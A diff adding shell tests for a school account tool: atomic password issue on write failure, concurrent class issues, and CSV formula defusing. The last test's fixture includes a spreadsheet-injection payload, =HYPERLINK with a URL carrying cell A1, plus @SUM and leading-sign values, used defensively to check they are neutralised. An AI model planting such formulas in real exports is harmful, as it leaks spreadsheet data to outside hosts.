@@ -975,4 +975,68 @@ test_expect 'the man page names every field of the machine formats' '
     done
 '
 
+# ---- passwords handed out once: written before they are stored, decided once ------------------
+
+# hash_of USER: the stored hash, from export -f chpasswd (the lock mark taken off).
+hash_of() {
+    netsec-account export -f chpasswd 2>/dev/null | sed -n "s/^$1:!\{0,1\}//p"
+}
+
+test_expect 'issue and reset whose passwords cannot be written (a full disk) exit 74 and store nothing' '
+    a_school &&
+    expect_code 0 netsec-journal show -f jsonl && cp out journal-before &&
+    netsec-account issue zhaoli s20200301 -f csv >/dev/full 2>err; test $? = 74 &&
+    expect_grep "cannot write to standard output: No space left on device" err &&
+    expect_no_grep "issued 2 passwords" err &&
+    expect_code 0 netsec-account show zhaoli -f json && test "$(jq -r .issued_at out)" = null &&
+    expect_code 0 netsec-journal show -f jsonl && expect_equal journal-before out &&
+    netsec-account issue zhaoli -f jsonl >first &&
+    H=$(hash_of zhaoli) && test -n "$H" &&
+    netsec-account reset zhaoli -f jsonl >/dev/full 2>err; test $? = 74 &&
+    test "$(hash_of zhaoli)" = "$H" &&
+    test "$(mkpasswd -m yescrypt "$(jq -r .password first)" "$H")" = "$H" &&
+    netsec-account issue s20200301 --slips slips.html >/dev/full 2>err && test -s slips.html
+'
+
+test_expect 'two issues of one class at once: one hands out the passwords that are stored, the other nothing (65)' '
+    school &&
+    { echo 姓名,年级,班级; for i in $(seq 40); do echo "学生$i,2024级,2024级3班"; done; } >r.csv &&
+    netsec-account -q import r.csv --kind pupil >/dev/null || exit 1
+    # Two real processes against one database; each hashes 40 passwords first, so they overlap.
+    { netsec-account issue --class 2024级3班 -f jsonl >a 2>ea; echo $? >ca; } &
+    { netsec-account issue --class 2024级3班 -f jsonl >b 2>eb; echo $? >cb; } &
+    wait
+    test "$(sort ca cb | paste -sd,)" = 0,65 &&
+    if [ "$(cat ca)" = 0 ]; then win=a lose=b; else win=b lose=a; fi &&
+    test ! -s $lose && expect_grep "nothing was issued" e$lose &&
+    test "$(wc -l <$win)" = 40 &&
+    netsec-account export -f chpasswd >shadow &&
+    test "$(wc -l <shadow)" = 40 &&
+    jq -r "[.username, .password] | @tsv" $win >given &&
+    while IFS="	" read -r u pw; do
+        h=$(sed -n "s/^$u://p" shadow) &&
+        test "$(mkpasswd -m yescrypt "$pw" "$h")" = "$h" || { echo "$u: the password handed out is not the one stored"; exit 1; }
+    done <given &&
+    test "$(netsec-journal show --action account.issued -f jsonl | wc -l)" = 40
+'
+
+test_expect 'list -f csv defuses formulas with a leading quote; import reads the names back exactly' '
+    school &&
+    printf "%s\n" "姓名,年级,班级" "\"=HYPERLINK(\"\"http://x/?\"\"&A1)\",2024级,2024级1班" "-5,2024级,2024级1班" \
+        "@SUM(A1),2024级,2024级1班" "+1,2024级,2024级1班" >r.csv &&
+    netsec-account -q import r.csv --kind pupil >/dev/null &&
+    expect_code 0 netsec-account list -f csv && cp out list.csv &&
+    expect_grep ",\"${SQ}=HYPERLINK(\"\"http://x/?\"\"&A1)\",pupil," list.csv &&
+    expect_grep ",-5,pupil," list.csv &&
+    expect_grep ",\"${SQ}@SUM(A1)\",pupil," list.csv &&
+    expect_code 0 netsec-account export -f csv &&
+    expect_grep ",\"${SQ}=HYPERLINK(" out &&
+    netsec-account list -f jsonl | jq -r .full_name | sort >want &&
+    school other &&
+    expect_code 0 netsec-account import list.csv &&
+    netsec-account list -f jsonl | jq -r .full_name | sort >got &&
+    expect_equal want got &&
+    grep -qx "=HYPERLINK(\"http://x/?\"&A1)" got && grep -qx -- -5 got
+'
+
 test_done
